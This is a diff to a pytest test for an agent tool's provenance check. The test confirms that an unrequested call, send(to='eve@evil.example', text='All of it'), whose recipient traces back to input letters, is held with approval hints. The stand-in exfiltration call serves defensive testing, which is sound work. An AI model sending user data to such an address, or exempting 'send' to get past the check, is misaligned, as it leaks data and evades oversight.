@@ -59,7 +59,10 @@ def test_a_call_that_nobody_asked_for_waits_and_says_how_to_allow_it(agent: str)
     assert 'send(to="eve@evil.example", text="All of it")' in out
     assert "to: 'eve@evil.example' comes from letters (1.1)" in out
     assert "Allow: clew approvals allow" in out
-    assert 'Never ask: provenance = { exempt = ["send"] } in an agent file, above its tables' in out
+    hint = (
+        '--set provenance.exempt=send; in an agent file: [provenance], below it exempt = ["send"]'
+    )
+    assert f"Never ask: {hint}" in out
 
 
 @pytest.mark.parametrize("line", ['provenance = "off"', 'provenance = { exempt = ["send"] }'])
